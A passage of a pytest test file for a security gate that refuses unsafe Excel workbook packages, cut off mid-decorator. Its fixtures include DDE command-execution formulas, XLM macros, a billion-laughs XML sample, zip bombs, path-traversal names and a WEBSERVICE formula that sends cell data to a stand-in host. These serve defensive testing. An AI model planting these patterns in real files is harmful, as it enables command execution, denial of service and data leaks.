"""The gate: a file that breaks each rule is refused with the part and the rule, and clean files pass."""

from __future__ import annotations

import hashlib
import io
import itertools
import os
import random
import re
import shutil
import signal
import struct
import subprocess
import sys
import time
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pycore.gate import gate
from pycore.gate.child import ChildLost
from pycore.gate.formula import leaving
from pycore.gate.gate import RULES, admit, check_package, check_template
from pycore.gate.rules import shown
from pycore.package.main_types import MAIN as MAIN_TYPE
from pycore.package.main_types import OTHER_MAINS, other_type
from pycore.package.package import Package
from tests.gate.killing import kill_children

TEMPLATES = sorted((Path(__file__).parents[2] / "workbooks" / "coal_chemical").glob("*.xlsx"))
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SHEET = "xl/worksheets/sheet1.xml"
Parts = dict[str, bytes]


def relationships(*rows: tuple[str, str, str], kind: str = OFFICE) -> bytes:
    """Rows of (id, type, target); a target with `!` before it is external."""
    return (
        f'<Relationships xmlns="{PACKAGE}">'
        + "".join(
            f'<Relationship Id="{i}" Type="{kind}/{t}" Target="{x.removeprefix("!")}"'
            f"{' TargetMode=' + chr(34) + 'External' + chr(34) if x.startswith('!') else ''}/>"
            for i, t, x in rows
        )
        + "</Relationships>"
    ).encode()


def clean(formula: str = "1+1", inside: str = "") -> Parts:
    """The smallest workbook: one sheet with one formula."""
    return {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}.sheet.main+xml"/>'
            f'<Override PartName="/{SHEET}" ContentType="{SHEET_TYPE}.worksheet+xml"/></Types>'
        ).encode(),
        "_rels/.rels": relationships(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="台账" sheetId="1" r:id="rId1"/>'
            "</sheets></workbook>"
        ).encode(),
        "xl/_rels/workbook.xml.rels": relationships(("rId1", "worksheet", "worksheets/sheet1.xml")),
        SHEET: (
            f'<worksheet xmlns="{MAIN}"><sheetData><row r="2"><c r="B2"><f>{formula}</f><v>2</v></c></row></sheetData>'
            f"{inside}</worksheet>"
        ).encode(),
    }


def packed(parts: Parts) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name)
            info.filename = name  # ZipInfo cuts at a NUL
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return written.getvalue()


def with_parts(**parts: bytes) -> bytes:
    return packed(clean() | {name.replace("__", "/"): content for name, content in parts.items()})


def added(name: str, content: bytes = b"<a/>") -> bytes:
    return packed(clean() | {name: content})


def changed(name: str, old: bytes, new: bytes) -> bytes:
    parts = clean()
    assert old in parts[name]
    return packed(parts | {name: parts[name].replace(old, new)})


def typed(content_type: str, names: str = 'Override PartName="/xl/odd.xml"', part: str = "xl/odd.xml") -> bytes:
    """A part, and a line of [Content_Types].xml that may name it or its ending."""
    parts = clean() | ({part: b"<a/>"} if part else {})
    line = f'<{names} ContentType="{content_type}"/></Types>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", line)
    return packed(parts)


OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def related(kind: str, target: str, part: str = "xl/worksheets/_rels/sheet1.xml.rels") -> bytes:
    return added(part, relationships(("rId9", kind, target)))


def many(attribute: bytes) -> bytes:
    """1,001 attributes."""
    return b" ".join(attribute.replace(b"%d", b"%d" % i) for i in range(1001))


def loaded(element: str, attribute: str) -> bytes:
    """A sheet with a picture whose relationship calls itself a link."""
    spaces = 'xmlns:a="a" xmlns:v="v" xmlns:o="o" xmlns:r="' + OFFICE + '"'
    parts = clean(inside=f'<{element} {spaces} {attribute}="rId9"/>')
    return packed(
        parts | {"xl/worksheets/_rels/sheet1.xml.rels": relationships(("rId9", "hyperlink", "!http://a/b.png"))}
    )


def above_the_root(target: str) -> bytes:
    """A workbook with a custom part, to which the package's relationships lead by this target."""
    rows = relationships(("rId1", "officeDocument", "xl/workbook.xml"), ("rId2", "customXml", target))
    return packed(clean() | {"customXml/item1.xml": b"<a/>", "_rels/.rels": rows})


def formula(text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return packed(clean(escaped))


def linked(target: str, formula: str, book: str = "externalBook") -> bytes:
    """A workbook with one link to another file, as Excel writes it."""
    parts = clean(formula)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</workbook>",
        b'<externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>',
    )
    parts["xl/_rels/workbook.xml.rels"] = relationships(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId2", "externalLink", "externalLinks/externalLink1.xml"),
    )
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><{book} r:id="rId1"/></externalLink>'
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = relationships(("rId1", "externalLinkPath", "!" + target))
    return packed(parts)


def twice(first: str, second: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in clean().items():
            archive.writestr(name, content)
        archive.writestr(first, b"<a/>")
        archive.writestr(second, b"<a/>")
    return written.getvalue()


def bomb(size: int = 256 * 1024 * 1024) -> bytes:
    """A sheet of `size` bytes of spaces, packed without ever holding them."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in clean().items():
            if name != SHEET:
                archive.writestr(name, content)
        with archive.open(SHEET, "w") as sheet:
            for _ in range(size // 2**20):
                sheet.write(b" " * 2**20)
    return written.getvalue()


def declaring(data: bytes, name: str, size: int) -> bytes:
    """Write another expanded size for an entry, in the directory and in its local header."""
    changed = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    struct.pack_into("<L", changed, info.header_offset + 22, size)
    central = data.index(name.encode(), data.index(b"PK\x01\x02")) - 46
    struct.pack_into("<L", changed, central + 24, size)
    return bytes(changed)


def encrypted_entries() -> bytes:
    data = bytearray(packed(clean()))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        offset = archive.infolist()[-1].header_offset
    data[offset + 6] |= 1
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def other_method() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_LZMA) as archive:
        for name, content in clean().items():
            archive.writestr(name, content)
    return written.getvalue()


def overlapping() -> bytes:
    """The directory lists an entry that lies inside another one (the principle of Fifield's bomb)."""
    inner = packed({"xl/b.xml": b"<a/>"})
    local, record = (
        inner[: inner.index(b"PK\x01\x02")],
        inner[inner.index(b"PK\x01\x02") : inner.index(b"PK\x05\x06")],
    )
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name, content in (clean() | {"xl/media/a.png": b"\x89PNG" + local}).items():
            archive.writestr(name, content)
    data = written.getvalue()
    placed = bytearray(record)
    struct.pack_into("<L", placed, 42, data.index(local))
    end = data.index(b"PK\x05\x06")
    tail = bytearray(data[end:])
    count, size = (
        struct.unpack_from("<H", tail, 8)[0] + 1,
        struct.unpack_from("<L", tail, 12)[0] + len(record),
    )
    struct.pack_into("<HHL", tail, 8, count, count, size)
    return data[:end] + bytes(placed) + bytes(tail)


DOCTYPE = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
LAUGHS = (
    '<!DOCTYPE sst [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 20))
    + "]><sst>&a19;</sst>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
TINY_ZIP = packed({"a.txt": b"a"})
VML = b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">%s</xml>'

BREAKS: list[tuple[str, str, bytes]] = [
    # rule, the part that the finding must name, the file
    ("gate-not-zip", "", b""),
    ("gate-not-zip", "", b"a,b\n1,2\n"),
    ("gate-not-zip", "", packed(clean())[:300]),
    ("gate-encrypted", "", OLE + "EncryptedPackage".encode("utf-16-le")),
    ("gate-old-format", "", OLE + "Workbook".encode("utf-16-le")),
    ("gate-encrypted", SHEET, encrypted_entries()),
    ("gate-entry-count", "", packed(clean() | {f"xl/media/{i}.png": b"" for i in range(2000)})),
    ("gate-compression", SHEET, other_method()),
    ("gate-archive", "[Content_Types].xml", b"PK\x03\x04" + bytes(50) + packed(clean())),
    ("gate-archive", "xl/b.xml", overlapping()),
    ("gate-false-size", SHEET, declaring(packed(clean()), SHEET, 10)),
    ("gate-false-size", SHEET, declaring(packed(clean()), SHEET, 10_000)),
    ("gate-entry-size", SHEET, declaring(packed(clean()), SHEET, 2**31)),
    ("gate-entry-ratio", SHEET, declaring(packed(clean()), SHEET, 2**24)),
    ("gate-entry-name", "../evil.xml", added("../evil.xml")),
    ("gate-entry-name", "xl/../../evil.xml", added("xl/../../evil.xml")),
    ("gate-entry-name", "/etc/evil.xml", added("/etc/evil.xml")),
    ("gate-entry-name", "xl\\evil.xml", added("xl\\evil.xml")),
    ("gate-entry-name", "C:/evil.xml", added("C:/evil.xml")),
    ("gate-entry-name", "xl/a\\x1b[2J.xml", added("xl/a\x1b[2J.xml")),
    ("gate-entry-name", "xl/a.xml\\x00.png", added("xl/a.xml\0.png")),
    ("gate-entry-name", "xl/%2e%2e/a.xml", added("xl/%2e%2e/a.xml")),
    ("gate-entry-name", "xl//a.xml", added("xl//a.xml")),
    ("gate-entry-twice", SHEET, twice("xl/b.xml", SHEET)),
    ("gate-entry-twice", "xl/A.xml", twice("xl/a.xml", "xl/A.xml")),
    ("gate-nested-archive", "xl/media/a.png", added("xl/media/a.png", TINY_ZIP)),
    ("gate-nested-archive", "xl/media/a.png", added("xl/media/a.png", b"\x89PNG" + TINY_ZIP)),
    ("gate-nested-archive", "xl/media/a.emf", added("xl/media/a.emf", b"MZ\x90")),
    ("gate-foreign-part", "xl/a.exe", added("xl/a.exe", b"..")),
    ("gate-foreign-part", "xl/a.bin", added("xl/a.bin", b"..")),
    ("gate-missing-part", "", packed({k: v for k, v in clean().items() if k != "[Content_Types].xml"})),
    ("gate-missing-part", "", packed({k: v for k, v in clean().items() if k != "xl/workbook.xml"})),
    ("gate-missing-part", "", packed({k: v for k, v in clean().items() if k != "_rels/.rels"})),
    ("gate-xml-dtd", "xl/sharedStrings.xml", added("xl/sharedStrings.xml", LAUGHS.encode())),
    *[
        ("gate-xml-dtd", "xl/a.xml", added("xl/a.xml", DOCTYPE.encode(coding)))
        for coding in ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32")
    ],
    ("gate-xml-dtd", "xl/media/a.svg", added("xl/media/a.svg", DOCTYPE.encode())),
    ("gate-xml-encoding", "xl/a.xml", added("xl/a.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>')),
    ("gate-xml-encoding", "xl/a.xml", added("xl/a.xml", b'<?xml version="1.0" encoding="cp037"?><a/>')),
    ("gate-xml-encoding", "xl/a.xml", added("xl/a.xml", "<a/>".encode("utf-32"))),
    ("gate-xml-damaged", "xl/a.xml", added("xl/a.xml", b"<a><b></a>")),
    ("gate-xml-damaged", SHEET, added(SHEET, b"\xff\xff<a/>")),
    ("gate-xml-depth", "xl/a.xml", added("xl/a.xml", b"<a>" * 300 + b"</a>" * 300)),
    ("gate-formula-length", SHEET, formula("1+" * 40_000 + "1")),
    ("gate-macro", "xl/vbaProject.bin", added("xl/vbaProject.bin", b"..")),
    # A second part that calls itself the workbook.
    ("gate-missing-part", "xl/workbook.xml", typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
    ("gate-macro", "[Content_Types].xml", typed("application/vnd.ms-office.vbaProject")),
    ("gate-macro", "xl/drawings/drawing1.xml", added("xl/drawings/drawing1.xml", b'<w:sp xmlns:w="x" macro="Evil"/>')),
    (
        "gate-macro",
        "xl/drawings/vmlDrawing1.vml",
        added("xl/drawings/vmlDrawing1.vml", VML % b"<x:FmlaMacro>[0]!Evil</x:FmlaMacro>"),
    ),
    ("gate-macro", "xl/_rels/a.xml.rels", related("vbaProject", "odd.bin", "xl/_rels/a.xml.rels")),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Default Extension="bin"', "xl/printerSettings/a.bin")),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Default Extension="BIN"', "xl/printerSettings/a.bIn")),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Default Extension="b%69n"', "xl/customProperty1.bin")),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Default Extension="xml"')),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Default Extension="png"', "xl/media/a.b%69n.p%6Eg")),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Override PartName="/XL/%6Fdd.xml"')),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Override PartName="/xl/odd.xml"', "xl/%6fdd.XML")),
    ("gate-embedded", "[Content_Types].xml", typed(OLE_TYPE, 'Override PartName="/xl/x/../odd.xml"')),
    ("gate-embedded", "[Content_Types].xml",
     typed(OLE_TYPE, 'Override PartName="/xl/odd.xml" ContentType="image/png"/><Override PartName="/xl/odd.xml"')),
    ("gate-embedded", "xl/em%62eddings/a.xml", added("xl/em%62eddings/a.xml")),
    ("gate-foreign-part", "xl/a.e%78e", added("xl/a.e%78e", b"..")),
    ("gate-foreign-part", "_xmlsignatures/origin.sigs", added("_xmlsignatures/origin.sigs", b"..")),
    ("gate-entry-twice", "xl/%61.xml", twice("xl/a.xml", "xl/%61.xml")),
    ("gate-xlm", "xl/macrosheets/sheet1.xml", added("xl/macrosheets/sheet1.xml")),
    ("gate-xlm", "[Content_Types].xml", typed("application/vnd.ms-excel.macrosheet+xml")),
    ("gate-xlm", SHEET, formula("EXEC(\"calc\")")),
    ("gate-xlm", SHEET, formula("_xlfn.REGISTER.ID (\"a\")")),
    (
        "gate-xlm",
        "xl/workbook.xml",
        changed(
            "xl/workbook.xml",
            b"</workbook>",
            b'<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames></workbook>',
        ),
    ),
    (
        "gate-xlm",
        "xl/workbook.xml",
        changed(
            "xl/workbook.xml",
            b"</workbook>",
            b'<definedNames><definedName name="a">GET.WORKBOOK(1)</definedName></definedNames></workbook>',
        ),
    ),
    ("gate-dialog-sheet", "xl/dialogsheets/sheet1.xml", added("xl/dialogsheets/sheet1.xml")),
    ("gate-external-link", "xl/externalLinks/externalLink1.xml", linked("other.xlsx", "1+1")),
    ("gate-external-link", SHEET, linked("other.xlsx", "[1]Sheet1!A1")),
    ("gate-external-link", SHEET, linked("other.xlsx", "'[1]Sheet 1'!A1+[1]!TL_X(1)")),
    ("gate-external-link", SHEET, linked("TwinLedger.xlam", "[1]Sheet1!A1")),
    ("gate-external-link", "xl/externalLinks/externalLink1.xml", linked("http://a/TwinLedger.xlam", "[1]!TL_X(1)")),
    ("gate-external-link", "xl/externalLinks/externalLink1.xml", linked("\\\\a\\TwinLedger.xlam", "[1]!TL_X(1)")),
    ("gate-external-link", SHEET, formula("'C:\\a\\[b.xlsx]S'!A1")),
    ("gate-external-link", SHEET, formula("[b.xlsx]S!A1")),
    ("gate-external-link", SHEET, formula("'/tmp/b'!A1")),
    ("gate-external-link", SHEET, formula("b.xlsx!total")),
    ("gate-external-link", SHEET, formula("'\\\\host\\x.xlam'!TL_X(1)")),
    ("gate-external-link", SHEET, formula("[7]!TL_X(1)")),
    ("gate-embedded", "xl/embeddings/a.docx", added("xl/embeddings/a.docx", TINY_ZIP)),
    ("gate-embedded", "xl/media/a.png", added("xl/media/a.png", OLE)),
    ("gate-embedded", SHEET, packed(clean(inside='<oleObjects><oleObject progId="Package"/></oleObjects>'))),
    ("gate-embedded", "xl/worksheets/_rels/sheet1.xml.rels", related("oleObject", "../media/a.png")),
    ("gate-control", "xl/activeX/activeX1.xml", added("xl/activeX/activeX1.xml")),
    ("gate-control", "xl/ctrlProps/ctrlProp1.xml", added("xl/ctrlProps/ctrlProp1.xml")),
    ("gate-control", SHEET, packed(clean(inside='<controls><control name="Button"/></controls>'))),
    ("gate-dde", SHEET, formula("cmd|'/c calc'!A0")),
    ("gate-dde", SHEET, packed(clean("cmd&#x7C;'/c calc'!A0"))),
    ("gate-dde", SHEET, packed(clean("<![CDATA[cmd|'/c calc'!A0]]>"))),
    ("gate-dde", SHEET, packed(clean(inside="<conditionalFormatting><cfRule><formula>a|b!c</formula></cfRule></conditionalFormatting>"))),
    ("gate-dde", SHEET, packed(clean(inside="<dataValidation><formula1>a|b!c</formula1></dataValidation>"))),
    ("gate-dde", "xl/externalLinks/externalLink1.xml", linked("x.xlsx", "1", 'ddeLink ddeService="cmd"')),
    ("gate-custom-ui", "customUI/customUI.xml", added("customUI/customUI.xml")),
    ("gate-custom-ui", "xl/odd.xml", added("xl/odd.xml", b'<customUI onLoad="Evil"/>')),
    ("gate-web-extension", "xl/webextensions/taskpanes.xml", added("xl/webextensions/taskpanes.xml")),
    ("gate-connection", "xl/connections.xml", added("xl/connections.xml")),
    ("gate-connection", "xl/queryTables/queryTable1.xml", added("xl/queryTables/queryTable1.xml")),
    ("gate-connection", "xl/odd.xml", added("xl/odd.xml", b'<x><webPr url="http://a"/></x>')),
    ("gate-web-function", SHEET, formula('_xlfn.WEBSERVICE("http://a/"&A1)')),
    ("gate-web-function", SHEET, formula('COM.MICROSOFT.WEBSERVICE("http://a")')),
    ("gate-web-function", SHEET, formula('_xlfn.IMAGE ("http://a")')),
    ("gate-web-function", SHEET, formula('RTD("a.b",,"c")')),
    ("gate-hyperlink", SHEET, formula('HYPERLINK("http://a"&A1,"x")')),
    ("gate-hyperlink", SHEET, formula("hyperlink(A1)")),
    ("gate-hyperlink", "xl/_rels/workbook.xml.rels", related("hyperlink", "!http://a", "xl/_rels/workbook.xml.rels")),
    ("gate-external-image", "xl/worksheets/_rels/sheet1.xml.rels", loaded("picture", "r:id")),
    ("gate-external-image", "xl/worksheets/_rels/sheet1.xml.rels", loaded("a:blip", "r:link")),
    ("gate-external-image", "xl/worksheets/_rels/sheet1.xml.rels", loaded("v:imagedata", "o:relid")),
    ("gate-xml-attributes", "xl/a.xml", added("xl/a.xml", b"<a " + many(b'a%d="1"') + b"/>")),
    ("gate-xml-attributes", "xl/a.xml", added("xl/a.xml", b"<a><b " + many(b'xmlns:a%d="u%d"') + b"/></a>")),
    ("gate-sheet-part-twice", SHEET, changed("xl/workbook.xml", b"</sheets>",
     b'<sheet name="\xe4\xba\x8c" sheetId="2" r:id="rId1"/></sheets>')),
    ("gate-xml-damaged", SHEET, added(SHEET, b"")),
    ("gate-xml-damaged", "xl/a.xml", added("xl/a.xml", b"<a><b:c/></a>")),
    ("gate-xml-damaged", "xl/a.xml", added("xl/a.xml", b'<a><c b:d="1"/></a>')),
    ("gate-xml-damaged", "xl/a.xml", added("xl/a.xml", b'<a xmlns:b="u"><b:c:d/></a>')),
    ("gate-xml-damaged", "xl/styles.xml", added("xl/styles.xml", b"")),
    ("gate-external-image", "xl/drawings/_rels/drawing1.xml.rels",
     related("image", "!http://a/b.png", "xl/drawings/_rels/drawing1.xml.rels")),
    ("gate-external-image", "xl/media/a.svg",
     added("xl/media/a.svg", b'<svg xmlns:x="l"><image x:href="http://a/b.png"/></svg>')),
    ("gate-external-target", "xl/worksheets/_rels/sheet1.xml.rels", related("drawing", "file:///C:/b.xml")),
    ("gate-external-target", "_rels/a.rels", related("attachedTemplate", "!http://a", "_rels/a.rels")),
    ("gate-external-target", "xl/worksheets/_rels/sheet1.xml.rels", related("drawing", "../../../etc/passwd")),
    ("gate-external-target", "xl/worksheets/_rels/sheet1.xml.rels", related("drawing", "http://a/b.xml")),
    ("gate-external-target", "xl/worksheets/_rels/sheet1.xml.rels", related("drawing", "..%5c..%5ca.xml")),
    ("gate-external-target", "xl/worksheets/_rels/sheet1.xml.rels", related("drawing", "%2e%2e/%2e%2e/%2e%2e/a.xml")),
    ("gate-external-target", "_rels/.rels", above_the_root("../customXml/item2.xml")),
    ("gate-external-target", "_rels/.rels", above_the_root("../../customXml/item1.xml")),
    ("gate-external-target", "_rels/.rels", above_the_root("!../customXml/item1.xml")),
    ("gate-external-target", "_rels/.rels", above_the_root("file:../customXml/item1.xml")),
]  # fmt: skip


def rules(source: Path | bytes) -> set[str]:
    return {finding.rule for finding in check_package(source)}


@pytest.mark.parametrize(("rule", "part", "data"), BREAKS, ids=[f"{i}-{r}" for i, (r, _, _) in enumerate(BREAKS)])
def test_each_refusal_names_part_and_rule(rule: str, part: str, data: bytes) -> None:
    findings = [f for f in check_package(data) if f.rule == rule]
    assert findings, check_package(data)
    assert part in [f.more["part"] for f in findings]
    finding = next(f for f in findings if f.more["part"] == part)
    assert part in finding.sentence("zh")
    assert part in finding.sentence("en")
    assert finding.severity.value == "error"
    for language in ("zh", "en"):
        assert "{" not in finding.sentence(language)


def test_every_rule_has_a_file_that_breaks_it() -> None:
    elsewhere = {
        "gate-file", "gate-size", "gate-total-size", "gate-xml-elements", "gate-template", "gate-time",
        "gate-memory", "gate-space", "gate-abort", "gate-crash",
    }  # fmt: skip
    assert {rule for rule, _, _ in BREAKS} == set(RULES) - elsewhere


def test_rules_have_both_languages_and_fill_their_detail() -> None:
    for rule in RULES.values():
        assert "{detail}" in rule.found.zh
        assert "{detail}" in rule.found.en
        for text in (rule.found, rule.expected, rule.action):
            assert any("\u4e00" <= c <= "\u9fff" or c == "." for c in text.zh)
            assert text.en.isascii()


def test_smallest_workbook_passes() -> None:
    assert check_package(packed(clean())) == []


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(typed(OLE_TYPE, 'Default  Extension="bin"', ""), id="ONLYOFFICE declares bin"),
        pytest.param(
            typed("application/vnd.ms-office.vbaProject", 'Default Extension="bin"', ""),
            id="no macro is there",
        ),
        pytest.param(typed(OLE_TYPE, 'Override PartName="/xl/gone.bin"', ""), id="the part was removed"),
        pytest.param(
            typed(
                f"{SHEET_TYPE}.printerSettings",
                f'Default Extension="bin" ContentType="{OLE_TYPE}"/><Override PartName="/xl/printerSettings/a.bin"',
                "xl/printerSettings/a.bin",
            ),
            id="the printer settings have a type of their own",
        ),
        pytest.param(above_the_root("../customXml/item1.xml"), id="LibreOffice leaves the root"),
        pytest.param(above_the_root("/customXml/item1.xml"), id="from the root"),
        pytest.param(added("_xmlsignatures/origin.sigs", b""), id="Excel signed it"),
        pytest.param(added("xl/styles2.xml", b"<a>" + b"<b c='1'/>" * 200_000 + b"</a>"), id="Gnumeric repeats styles"),
        pytest.param(added("xl/media/image1.jfif", b"\xff\xd8\xff\xe0"), id="jfif"),
        pytest.param(added("package/services/metadata/core-properties/a1.psmdcp"), id="properties of Windows"),
        pytest.param(added("xl/drawings/vmlDrawing1.vml", b""), id="an empty drawing is left behind"),
        pytest.param(added("docProps/custom.xml", b""), id="empty properties"),
        pytest.param(related("hyperlink", "!http://a/b?c"), id="a typed address"),
        pytest.param(related("hyperlink", "!mailto:a@b.cn"), id="a typed address of mail"),
        pytest.param(related("hyperlink", "!file:///C:/evidence.pdf"), id="evidence on the sender's computer"),
        pytest.param(related("hyperlink", "!evidence.pdf"), id="evidence beside the file"),
        pytest.param(related("hyperlink", "!http://a", "xl/drawings/_rels/drawing1.xml.rels"), id="a logo with a link"),
    ],
)
def test_what_programs_write_and_nobody_is_harmed_by_passes(data: bytes) -> None:
    assert check_package(data) == []


def test_a_workbook_may_be_typed_by_its_ending() -> None:
    parts = clean()
    override = f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}.sheet.main+xml"/>'
    default = f'<Default Extension="xml" ContentType="{SHEET_TYPE}.sheet.main+xml"/>'
    types = parts["[Content_Types].xml"].decode().replace(override, default)
    assert check_package(packed(parts | {"[Content_Types].xml": types.encode()})) == []
    assert rules(packed(parts | {"[Content_Types].xml": types.encode(), "xl/b.xml": b"<a/>"})) == {"gate-missing-part"}


@pytest.mark.parametrize("ending", [".xlsm", ".xltx", ".xltm"])
def test_a_workbook_without_macros_may_be_typed_as_one_that_may_have_them(ending: str) -> None:
    kind = dict(zip([".xlsm", ".xltx", ".xltm"], OTHER_MAINS, strict=True))[ending]
    data = changed("[Content_Types].xml", MAIN_TYPE.encode(), kind.encode())
    assert check_package(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert rules(packed(parts | {"xl/vbaProject.bin": b".."})) == {"gate-macro"}
    assert other_type(parts) == ending
    # What is written is an .xlsx whatever it was: Excel opens no file whose ending says another type.
    copy = Package.read(data).with_members({})
    assert other_type(Package.read(copy).members) == ""
    assert Package.read(copy).with_members({}) == copy


def test_no_relationship_hides_behind_many_others() -> None:
    chance = random.Random(1)  # rows that compress little
    many = b"".join(b'<Relationship Id="%032x" Target="b.xml"/>' % chance.getrandbits(128) for _ in range(100_000))
    last = f'<Relationship Id="b" Type="{OFFICE}/hyperlink" Target="http://a" TargetMode="External"/>'.encode()
    rows = relationships().replace(b"</Relationships>", many + last + b"</Relationships>")
    assert rules(added("xl/worksheets/_rels/sheet1.xml.rels", rows)) == {"gate-xml-elements"}


def test_a_breach_in_a_sheet_names_sheet_and_cell() -> None:
    finding = check_package(formula("cmd|'/c calc'!A0"))[0]
    assert (finding.sheet, finding.cell) == ("台账", "B2")


def test_breaches_of_one_kind_are_one_finding_with_their_number() -> None:
    parts = clean()
    parts[SHEET] = parts[SHEET].replace(b"<sheetData>", b"<sheetData>" + b'<c r="A1"><f>a|b!c</f></c>' * 50)
    (finding,) = check_package(packed(parts))
    assert finding.more["places"] == 50


def test_missing_file_folder_and_device_are_refused(tmp_path: Path) -> None:
    for path in (tmp_path / "none.xlsx", tmp_path, Path("/dev/zero"), Path("a\0b")):
        assert rules(path) == {"gate-file"}


def test_large_file_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "large.xlsx"
    with open(path, "wb") as file:
        file.truncate(2**40)
    assert rules(path) == {"gate-size"}


def test_total_size_counts_all_parts() -> None:
    # zeros would break the ratio first
    noise = random.Random(1).randbytes(2**20)
    block = b"".join(noise[i : i + 2**10] + bytes(40 * 2**10) for i in range(0, 2**20, 2**10))
    parts = {f"xl/media/{i}.png": b"\x89PNG" + block for i in range(7)}
    assert rules(packed(clean() | parts)) == {"gate-total-size"}


def test_number_of_elements_is_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gate, "MOST_ELEMENTS", 100)
    assert rules(added("xl/a.xml", b"<a>" + b"<b/>" * 200 + b"</a>")) == {"gate-xml-elements"}


@pytest.mark.parametrize("lying", [False, True])
def test_zip_bomb_is_refused_fast_and_small(lying: bool) -> None:
    data = bomb()
    assert len(data) < 300_000
    if lying:
        data = declaring(data, SHEET, 900_000)  # within every limit, if one believed it
    tracemalloc.start()
    begin = time.process_time()
    found = check_package(data)
    seconds = time.process_time() - begin
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    declared = {"gate-entry-size", "gate-total-size"}
    assert {f.rule for f in found} == ({"gate-entry-ratio"} if lying else declared)
    assert SHEET in [f.more["part"] for f in found]
    assert seconds < 1
    assert peak < 80 * 2**20


def test_sparse_sheet_passes() -> None:
    parts = clean(inside="")
    parts[SHEET] = (
        f'<worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    ).encode()
    assert check_package(packed(parts)) == []


def test_deep_parentheses_pass_in_time() -> None:
    begin = time.process_time()
    assert check_package(formula("(" * 20_000 + "1" + ")" * 20_000)) == []
    assert time.process_time() - begin < 1


@pytest.mark.parametrize(
    "text", ["[" * 65_000, "'" * 65_000, "A" * 65_000, "A" + " " * 65_000, "'/" * 32_000, '"' * 65_001, "a.xl" * 16_000 + "!",
             "_xlfn." * 10_000 + "X(", "\\" * 65_000 + "!", "HYPERLINK(" * 6_500, "|" * 5_000]
)  # fmt: skip
def test_no_formula_takes_long(text: str) -> None:
    begin = time.process_time()
    leaving(text)
    assert time.process_time() - begin < 1


@pytest.mark.parametrize(
    "text",
    [
        "SUM(Table1[[#This Row],[a|b]])",
        "Table1[a]/'燃料 1'!A1",
        'HYPERLINK("#\'燃料\'!A1","燃料")',
        'IF(TL_ON,TL_FUEL_CO2(A1,"[1]!x|y"),A2/B2)',
        "'C:\\AddIns\\TwinLedger.xlam'!TL_FUEL_CO2(A1)",
        "_xll.TL_FUEL_CO2(A1)+_xldudf_TL_FUEL_CO2(A1)+ORG.TWINLEDGER.ADDIN.TLFUELCO2(A2)",
        "'it''s'!A1*v1.0!A1",
        "\"http://a/b|c\"&'x'!A1",
        "[0]!total+1",
    ],
)
